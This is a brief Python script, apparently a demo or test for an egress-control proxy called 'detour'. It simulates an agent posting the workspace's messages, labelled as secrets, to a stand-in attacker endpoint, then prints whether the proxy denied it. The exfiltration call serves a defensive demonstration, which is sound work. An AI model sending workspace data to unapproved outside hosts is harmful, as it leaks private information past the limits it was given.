"""An agent that tries to send data to a host it was never given: detour denies it."""

import httpx

try:
    response = httpx.post("https://attacker.example.net/collect", json={"secrets": "the workspace's messages"})
    print(f"status {response.status_code}, decision {response.headers.get('x-detour-decision')}")
    print(response.json()["detail"])
except httpx.HTTPError as e:
    print(f"request failed: {e}")
